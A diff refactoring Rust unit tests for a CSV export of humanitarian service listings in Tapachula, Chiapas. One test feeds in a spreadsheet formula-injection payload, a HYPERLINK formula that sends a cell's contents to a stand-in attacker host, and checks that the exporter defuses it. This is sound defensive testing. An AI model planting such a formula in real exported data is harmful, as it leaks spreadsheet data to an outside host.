@@ -83,14 +83,14 @@ mod tests {
     };
     use uuid::Uuid;
 
-    #[test]
-    fn a_hashtag_row_follows_the_header_and_each_sector_is_a_row() {
-        let service = Service {
+    /// A free, active service in Tapachula, unverified, with no other details.
+    fn tapachula_service(name: &str, sectors: Vec<Sector>) -> Service {
+        Service {
             id: Uuid::now_v7(),
             organization_id: Uuid::now_v7(),
-            name: "Atención, \"médica\"".into(),
+            name: name.into(),
             description: String::new(),
-            sectors: vec![Sector::Health, Sector::MentalHealth],
+            sectors,
             populations: vec![],
             eligibility: String::new(),
             languages: vec![],
@@ -106,21 +106,35 @@ mod tests {
             status: ServiceStatus::Active,
             last_verified: None,
             provenance: Provenance {
-                sources: vec![
-                    "https://example.org/a".into(),
-                    "https://example.org/b".into(),
-                ],
+                sources: vec![],
                 verified: false,
             },
-        };
-        let csv = services_csv(&[ServiceRow {
-            service: &service,
-            organization_name: "Casa",
+        }
+    }
+
+    /// The CSV of `service` alone, offered by `organization_name`.
+    fn csv_of(service: &Service, organization_name: &str) -> String {
+        services_csv(&[ServiceRow {
+            service,
+            organization_name,
             organization_kind: "albergue",
             municipality_name: "Tapachula",
             state_name: "Chiapas",
         }])
-        .unwrap();
+        .unwrap()
+    }
+
+    #[test]
+    fn a_hashtag_row_follows_the_header_and_each_sector_is_a_row() {
+        let mut service = tapachula_service(
+            "Atención, \"médica\"",
+            vec![Sector::Health, Sector::MentalHealth],
+        );
+        service.provenance.sources = vec![
+            "https://example.org/a".into(),
+            "https://example.org/b".into(),
+        ];
+        let csv = csv_of(&service, "Casa");
         let lines: Vec<&str> = csv.lines().collect();
         assert_eq!(lines.len(), 4);
         assert!(lines[1].starts_with("#org +name,#org +id"));
@@ -138,39 +152,12 @@ mod tests {
 
     #[test]
     fn a_formula_for_a_name_is_defused_and_coordinates_stay_numbers() {
-        let service = Service {
-            id: Uuid::now_v7(),
-            organization_id: Uuid::now_v7(),
-            name: "=HYPERLINK(\"http://evil.example/?\"&A3,\"Ver\")".into(),
-            description: String::new(),
-            sectors: vec![Sector::Health],
-            populations: vec![],
-            eligibility: String::new(),
-            languages: vec![],
-            cost: ServiceCost::Free,
-            hours: String::new(),
-            how_to_access: String::new(),
-            capacity: None,
-            location: ServiceLocation {
-                cvegeo: Cvegeo::parse("07089").unwrap(),
-                address: None,
-                coordinates: Some(Coordinates::in_mexico(14.9, -92.26).unwrap()),
-            },
-            status: ServiceStatus::Active,
-            last_verified: None,
-            provenance: Provenance {
-                sources: vec![],
-                verified: false,
-            },
-        };
-        let csv = services_csv(&[ServiceRow {
-            service: &service,
-            organization_name: "@Casa",
-            organization_kind: "albergue",
-            municipality_name: "Tapachula",
-            state_name: "Chiapas",
-        }])
-        .unwrap();
+        let mut service = tapachula_service(
+            "=HYPERLINK(\"http://evil.example/?\"&A3,\"Ver\")",
+            vec![Sector::Health],
+        );
+        service.location.coordinates = Some(Coordinates::in_mexico(14.9, -92.26).unwrap());
+        let csv = csv_of(&service, "@Casa");
         let row = csv.lines().nth(2).unwrap();
         assert!(row.starts_with("'@Casa,"), "{row}");
         assert!(
